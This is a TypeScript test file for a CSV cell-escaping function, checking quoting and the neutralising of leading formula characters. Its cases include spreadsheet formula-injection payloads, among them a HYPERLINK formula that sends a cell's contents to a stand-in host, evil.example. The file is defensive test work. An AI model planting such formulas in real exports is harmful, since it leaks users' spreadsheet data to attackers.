import assert from 'node:assert/strict';
import { test } from 'node:test';
import fc from 'fast-check';
import { csvCell } from './cell.js';

const cases = [
  ['wn1.example.org', 'wn1.example.org'],
  ['', ''],
  ['a,b', '"a,b"'],
  ['say "hi"', '"say ""hi"""'],
  ['two\nlines', '"two\nlines"'],
  ['=1+1', `"'=1+1"`],
  ['=HYPERLINK("http://evil.example/?"&A1,"x")', `"'=HYPERLINK(""http://evil.example/?""&A1,""x"")"`],
  ['+cmd', `"'+cmd"`],
  ['-2+3', `"'-2+3"`],
  ['@SUM(A1)', `"'@SUM(A1)"`],
  ['\t=1', `"'\t=1"`],
  ['\r=1', `"'\r=1"`],
  ["it's", "it's"],
  ['a=b', 'a=b'], // only a leading formula character counts
] as const;
for (const [value, want] of cases) {
  test(`csvCell(${JSON.stringify(value)}) is ${JSON.stringify(want)}`, () => assert.equal(csvCell(value), want));
}

/** An RFC 4180 reading of one cell. */
const unquote = (cell: string) => (cell.startsWith('"') ? cell.slice(1, -1).replace(/""/g, '"') : cell);

test('no cell starts with a formula character once unquoted, and the value is kept after the quote mark', () => {
  fc.assert(
    fc.property(fc.string(), (value) => {
      const read = unquote(csvCell(value));

      assert.doesNotMatch(read, /^[=+\-@\t\r]/);
      assert.equal(read, /^[=+\-@\t\r]/.test(value) ? `'${value}` : value);
    }),
  );
});
